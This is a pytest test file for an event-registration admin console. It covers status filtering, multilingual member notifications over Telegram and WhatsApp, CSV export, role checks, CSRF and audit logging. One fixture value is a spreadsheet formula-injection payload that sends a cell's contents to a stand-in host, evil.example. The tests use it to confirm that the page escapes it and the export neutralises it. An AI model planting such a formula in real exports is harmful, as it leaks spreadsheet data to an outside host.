"""The registrations pages: filter by status, change a status (the member told on their
channel, in their language, through the durable sending), CSV export, roles, CSRF, audit."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta

import pytest
from sqlalchemy import select
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from kb.files.registration_csv import REGISTRATION_COLUMNS
from kb.models import AuditEntry, Event, NotificationSent, Registration, User
from outbound import notify
from tests.console.conftest import (
    ADMIN_EMAIL,
    ADMIN_PASSWORD,
    DELEGATE_EMAIL,
    DELEGATE_PASSWORD,
    Browser,
    page_token,
    sign_in,
)
from tests.support.fake_telegram import TOKEN, fake_telegram_in_thread
from tests.support.notify import TODAY, FakeNotifier, add_event, add_user

SLUG = "mission-dakar-2026"
PAGE = f"/events/{SLUG}/registrations"
#: A company name a spreadsheet would run as a formula, were it not neutralised.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass(frozen=True)
class Member:
    """A registered member: their registration, channel, chat id and language."""

    registration_id: int
    channel: str
    chat: str
    language: str


@dataclass(frozen=True)
class Seeded:
    members: dict[str, Member]
    #: A registration made without a member (staff, or an erased member): nobody to tell.
    anonymous_id: int
    waitlisted_id: int
    other_event_registration_id: int


def _register(session: Session, event: Event, user: User | None, company: str, **kw: str) -> int:
    row = Registration(event_id=event.id, user_id=user.id if user else None, company_name=company)
    for key, value in kw.items():
        setattr(row, key, value)
    session.add(row)
    session.flush()
    return int(row.id)


@pytest.fixture()
def seeded(engine: Engine) -> Seeded:
    """An event with a French Telegram member, an Arabic WhatsApp one, an English Twilio one
    (language known only from their channel's hint), a waitlisted one, an anonymous one."""
    with Session(engine) as session, session.begin():
        event = add_event(session, SLUG, start=TODAY + timedelta(days=60))
        other = add_event(session, "forum-nairobi-2026", country="KE")
        people = {
            "fr": add_user(session, "111", channel="telegram", language="fr"),
            "ar": add_user(session, "212600000001", channel="whatsapp", language="ar"),
            "en": add_user(session, "+447700900123", channel="twilio_whatsapp", hint="en-GB"),
        }
        members = {
            lang: Member(
                _register(session, event, user, f"Atlas {lang}", email=f"{lang}@atlas.ma"),
                user.channel,
                user.channel_user_id,
                lang,
            )
            for lang, user in people.items()
        }
        late = add_user(session, "333", channel="telegram", language="fr")
        waitlisted = _register(session, event, late, "Sahara Dattes", status="waitlisted")
        anonymous = _register(session, event, None, FORMULA, phone="+212600000009", ice="-1+1")
        elsewhere = _register(session, other, people["fr"], "Atlas fr")
    return Seeded(members, anonymous, waitlisted, elsewhere)


@pytest.fixture()
def admin(browser: Browser) -> TestClient:
    client = browser()
    assert sign_in(client, ADMIN_EMAIL, ADMIN_PASSWORD).status_code == 303
    return client


@pytest.fixture()
def channels(monkeypatch: pytest.MonkeyPatch) -> dict[str, FakeNotifier]:
    """Fake notifiers of the three channels in place of the configured ones."""
    configured = {name: FakeNotifier(channel=name) for name in ("telegram", "whatsapp")}
    configured["twilio_whatsapp"] = FakeNotifier(channel="twilio_whatsapp")
    monkeypatch.setattr(notify, "notifiers_from_environment", lambda: dict(configured))
    return configured


def set_status(client: TestClient, registration_id: int, status: str, slug: str = SLUG) -> object:
    token = page_token(client, PAGE)
    path = f"/events/{slug}/registrations/{registration_id}/status"
    return client.post(path, data={"status": status, "csrf_token": token})


def status_of(engine: Engine, registration_id: int) -> str:
    with Session(engine) as session:
        return str(session.get(Registration, registration_id).status)  # type: ignore[union-attr]


def notices(engine: Engine) -> list[tuple[str, int, str]]:
    with Session(engine) as session:
        rows = session.scalars(select(NotificationSent).order_by(NotificationSent.id))
        return [(r.kind, r.user_id, r.status) for r in rows]


def audit_rows(engine: Engine) -> list[tuple[str, str | None, str]]:
    with Session(engine) as session:
        rows = session.scalars(select(AuditEntry).order_by(AuditEntry.id))
        return [(r.action, r.target_id, r.details) for r in rows if r.action.startswith("regis")]


def test_the_events_list_links_to_the_registrations(admin: TestClient, seeded: Seeded) -> None:
    assert f'href="{PAGE}"' in admin.get("/events").text


def test_the_list_shows_every_registration_and_filters_by_status(
    admin: TestClient, seeded: Seeded
) -> None:
    page = admin.get(PAGE)
    assert page.status_code == 200
    for company in ("Atlas fr", "Atlas ar", "Atlas en", "Sahara Dattes"):
        assert company in page.text
    assert "twilio_whatsapp · en" in page.text  # the channel and language the notice uses
    assert "HYPERLINK(&#34;http" in page.text  # escaped, never markup
    waiting = admin.get(f"{PAGE}?status=waitlisted")
    assert waiting.status_code == 200
    assert "Sahara Dattes" in waiting.text and "Atlas fr" not in waiting.text
    cancelled = admin.get(f"{PAGE}?status=cancelled")
    assert "Aucune inscription." in cancelled.text
    assert admin.get(f"{PAGE}?status=paid").status_code == 400


#: Per language: the event's title, a phrase of the notice, the template's status word.
EXPECTED = {
    "fr": ("Mission mission-dakar-2026", "liste d'attente", "sur liste d'attente"),
    "ar": ("بعثة mission-dakar-2026", "لائحة الانتظار", "في لائحة الانتظار"),
    "en": ("mission-dakar-2026 mission", "waiting list", "waitlisted"),
}


@pytest.mark.parametrize("language", ["fr", "ar", "en"])
def test_a_status_change_tells_the_member_on_their_channel_in_their_language(
    admin: TestClient,
    engine: Engine,
    seeded: Seeded,
    channels: dict[str, FakeNotifier],
    language: str,
) -> None:
    member = seeded.members[language]
    answer = set_status(admin, member.registration_id, "waitlisted")
    assert answer.status_code == 200  # type: ignore[attr-defined]
    assert "Le membre a été prévenu." in answer.text  # type: ignore[attr-defined]
    assert status_of(engine, member.registration_id) == "waitlisted"
    sent = {name: [m for _, m in fake.sent] for name, fake in channels.items()}
    assert {name for name, messages in sent.items() if messages} == {member.channel}
    (message,) = sent[member.channel]
    title, phrase, word = EXPECTED[language]
    assert message.recipient == member.chat and message.language == language
    assert title in message.text and phrase in message.text
    assert message.template is not None and message.template.name == "asmex_registration_status"
    assert word in message.template.parameters
    with Session(engine) as session:
        user_id = session.get(Registration, member.registration_id).user_id  # type: ignore[union-attr]
    assert notices(engine) == [("registration_waitlisted", user_id, "sent")]
    ((action, target, details),) = audit_rows(engine)
    assert action == "registration.waitlist" and target == str(member.registration_id)
    assert '"before": "confirmed"' in details and '"after": "waitlisted"' in details
    assert "atlas" not in details.lower()  # no personal data in the log


def test_the_notice_reaches_the_telegram_bot_api(
    admin: TestClient, engine: Engine, seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through the real Telegram notifier (configured from the environment) to a fake Bot API."""
    with fake_telegram_in_thread() as telegram:
        monkeypatch.setenv("TELEGRAM_TOKEN", TOKEN)
        monkeypatch.setenv("TELEGRAM_BASE_URL", telegram.base_url)
        answer = set_status(admin, seeded.members["fr"].registration_id, "confirmed")
        assert "aucun message envoyé" in answer.text  # type: ignore[attr-defined]
        answer = set_status(admin, seeded.members["fr"].registration_id, "cancelled")
        assert "Le membre a été prévenu." in answer.text  # type: ignore[attr-defined]
        (call,) = telegram.calls_to("sendMessage")
    assert call.chat_id == 111
    assert "Votre inscription à « Mission mission-dakar-2026 »" in call.params["text"]
    assert "a été annulée par l'ASMEX" in call.params["text"]
    assert [b["text"] for b in call.buttons] == ["Voir l'événement"]
    assert [(k, s) for k, _, s in notices(engine)] == [("registration_cancelled", "sent")]


def test_the_french_and_english_titles_are_the_members(
    admin: TestClient, seeded: Seeded, channels: dict[str, FakeNotifier]
) -> None:
    set_status(admin, seeded.members["fr"].registration_id, "cancelled")
    set_status(admin, seeded.members["en"].registration_id, "cancelled")
    (fr,) = [m for _, m in channels["telegram"].sent]
    (en,) = [m for _, m in channels["twilio_whatsapp"].sent]
    assert "« Mission mission-dakar-2026 »" in fr.text and "annulée" in fr.text
    assert "“mission-dakar-2026 mission”" in en.text and "was cancelled" in en.text


def test_no_notice_when_the_status_does_not_change(
    admin: TestClient, engine: Engine, seeded: Seeded, channels: dict[str, FakeNotifier]
) -> None:
    answer = set_status(admin, seeded.members["fr"].registration_id, "confirmed")
    assert answer.status_code == 200  # type: ignore[attr-defined]
    assert "aucun message envoyé" in answer.text  # type: ignore[attr-defined]
    assert all(not fake.sent for fake in channels.values())
    assert notices(engine) == [] and audit_rows(engine) == []


def test_each_new_change_is_told_again(
    admin: TestClient, engine: Engine, seeded: Seeded, channels: dict[str, FakeNotifier]
) -> None:
    registration = seeded.members["fr"].registration_id
    for status in ("waitlisted", "confirmed", "waitlisted"):
        assert set_status(admin, registration, status).status_code == 200  # type: ignore[attr-defined]
    texts = [m.text for _, m in channels["telegram"].sent]
    assert len(texts) == 3
    assert "liste d'attente" in texts[0] and "confirmée" in texts[1] and "attente" in texts[2]
    assert [a for a, _, _ in audit_rows(engine)] == [
        "registration.waitlist",
        "registration.confirm",
        "registration.waitlist",
    ]


def test_a_notice_without_a_channel_waits_for_notify_pending(
    admin: TestClient, engine: Engine, seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(notify, "notifiers_from_environment", dict)
    member = seeded.members["ar"]
    answer = set_status(admin, member.registration_id, "cancelled")
    assert "notify-pending" in answer.text  # type: ignore[attr-defined]
    assert [(k, s) for k, _, s in notices(engine)] == [("registration_cancelled", "pending")]
    # notify-pending finds it and sends it, in Arabic, on WhatsApp.
    (due,) = notify.due_notifications(engine, today=TODAY)
    assert (due.kind, due.channel, due.language) == ("registration_cancelled", "whatsapp", "ar")
    whatsapp = FakeNotifier(channel="whatsapp")
    summary = notify.asyncio.run(notify.send_due(engine, [due], {"whatsapp": whatsapp}))
    assert summary.count("sent") == 1
    assert "ألغت ASMEX تسجيلك" in whatsapp.sent[0][1].text
    assert [(k, s) for k, _, s in notices(engine)] == [("registration_cancelled", "sent")]


def test_a_registration_without_a_member_changes_and_tells_nobody(
    admin: TestClient, engine: Engine, seeded: Seeded, channels: dict[str, FakeNotifier]
) -> None:
    answer = set_status(admin, seeded.anonymous_id, "cancelled")
    assert "pas de membre à prévenir" in answer.text  # type: ignore[attr-defined]
    assert status_of(engine, seeded.anonymous_id) == "cancelled"
    assert all(not fake.sent for fake in channels.values()) and notices(engine) == []
    assert [a for a, _, _ in audit_rows(engine)] == ["registration.cancel"]


def test_confirming_a_second_registration_of_a_member_is_refused(
    admin: TestClient, engine: Engine, seeded: Seeded, channels: dict[str, FakeNotifier]
) -> None:
    with Session(engine) as session, session.begin():
        event = session.scalars(select(Event).where(Event.slug == SLUG)).one()
        first = session.get(Registration, seeded.members["fr"].registration_id)
        assert first is not None
        duplicate = Registration(
            event_id=event.id, user_id=first.user_id, company_name="Atlas bis", status="waitlisted"
        )
        session.add(duplicate)
        session.flush()
        duplicate_id = duplicate.id
    answer = set_status(admin, duplicate_id, "confirmed")
    assert answer.status_code == 409  # type: ignore[attr-defined]
    assert "déjà une inscription confirmée" in answer.text  # type: ignore[attr-defined]
    assert status_of(engine, duplicate_id) == "waitlisted" and notices(engine) == []


def test_the_csv_export_is_the_admin_export_neutralised(
    admin: TestClient, engine: Engine, seeded: Seeded
) -> None:
    answer = admin.get(f"{PAGE}/export.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    disposition = answer.headers["content-disposition"]
    assert disposition == 'attachment; filename="registrations-mission-dakar-2026.csv"'
    text = answer.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert tuple(rows[0]) == REGISTRATION_COLUMNS
    body = [dict(zip(REGISTRATION_COLUMNS, row, strict=True)) for row in rows[1:]]
    assert len(body) == 5  # not the registration to the other event
    assert {r["event_slug"] for r in body} == {SLUG}
    formula = next(r for r in body if "HYPERLINK" in r["company_name"])
    assert formula["company_name"] == "'" + FORMULA
    assert formula["ice"] == "'-1+1" and formula["phone"] == "'+212600000009"
    assert next(r for r in body if r["company_name"] == "Atlas ar")["email"] == "ar@atlas.ma"
    waiting = admin.get(f"{PAGE}/export.csv?status=waitlisted")
    assert (
        "registrations-mission-dakar-2026-waitlisted.csv" in waiting.headers["content-disposition"]
    )
    assert len(list(csv.reader(io.StringIO(waiting.text)))) == 2
    assert [(a, t) for a, t, _ in audit_rows(engine)] == [
        ("registration.export", SLUG),
        ("registration.export", SLUG),
    ]
    assert admin.get(f"{PAGE}/export.csv?status=x").status_code == 400


def test_a_delegate_gets_403(browser: Browser, engine: Engine, seeded: Seeded) -> None:
    delegate = browser()
    assert sign_in(delegate, DELEGATE_EMAIL, DELEGATE_PASSWORD).status_code == 303
    assert delegate.get(PAGE).status_code == 403
    assert delegate.get(f"{PAGE}/export.csv").status_code == 403
    answer = set_status(delegate, seeded.members["fr"].registration_id, "cancelled")
    assert answer.status_code == 403  # type: ignore[attr-defined]
    assert status_of(engine, seeded.members["fr"].registration_id) == "confirmed"


def test_without_a_session_pages_redirect_and_posts_answer_401(
    browser: Browser, engine: Engine, seeded: Seeded
) -> None:
    anonymous = browser()
    for path in (PAGE, f"{PAGE}/export.csv"):
        answer = anonymous.get(path)
        assert answer.status_code == 303
        assert answer.headers["location"].startswith("/login?next=/events/mission-dakar-2026/")
    token = page_token(anonymous)
    registration = seeded.members["fr"].registration_id
    path = f"{PAGE}/{registration}/status"
    answer = anonymous.post(path, data={"status": "cancelled", "csrf_token": token})
    assert answer.status_code == 401
    assert status_of(engine, registration) == "confirmed"


def test_a_post_without_the_csrf_token_is_refused(
    admin: TestClient, engine: Engine, seeded: Seeded, channels: dict[str, FakeNotifier]
) -> None:
    registration = seeded.members["fr"].registration_id
    answer = admin.post(f"{PAGE}/{registration}/status", data={"status": "cancelled"})
    assert answer.status_code == 403
    forged = admin.post(
        f"{PAGE}/{registration}/status", data={"status": "cancelled", "csrf_token": "0" * 64}
    )
    assert forged.status_code == 403
    assert status_of(engine, registration) == "confirmed"
    assert not channels["telegram"].sent and audit_rows(engine) == []


def test_unknown_events_registrations_and_statuses_get_4xx(
    admin: TestClient, engine: Engine, seeded: Seeded
) -> None:
    assert admin.get("/events/no-such-event/registrations").status_code == 404
    assert admin.get("/events/no-such-event/registrations/export.csv").status_code == 404
    assert set_status(admin, 999_999, "cancelled").status_code == 404  # type: ignore[attr-defined]
    # A registration of another event is not this event's.
    other = set_status(admin, seeded.other_event_registration_id, "cancelled")
    assert other.status_code == 404  # type: ignore[attr-defined]
    assert status_of(engine, seeded.other_event_registration_id) == "confirmed"
    token = page_token(admin, PAGE)
    for bad_id in ("abc", "1e3", "9" * 13):
        assert admin.post(f"{PAGE}/{bad_id}/status", data={"csrf_token": token}).status_code == 404
    registration = seeded.members["fr"].registration_id
    for bad in ({"status": "paid"}, {}):
        answer = admin.post(f"{PAGE}/{registration}/status", data={**bad, "csrf_token": token})
        assert answer.status_code == 400
    assert audit_rows(engine) == []


def test_the_arabic_page_reads_right_to_left(admin: TestClient, seeded: Seeded) -> None:
    token = page_token(admin, PAGE)
    admin.post("/language", data={"language": "ar", "next": PAGE, "csrf_token": token})
    page = admin.get(PAGE)
    assert '<html lang="ar" dir="rtl">' in page.text
    assert "التسجيلات" in page.text and "لائحة الانتظار" in page.text
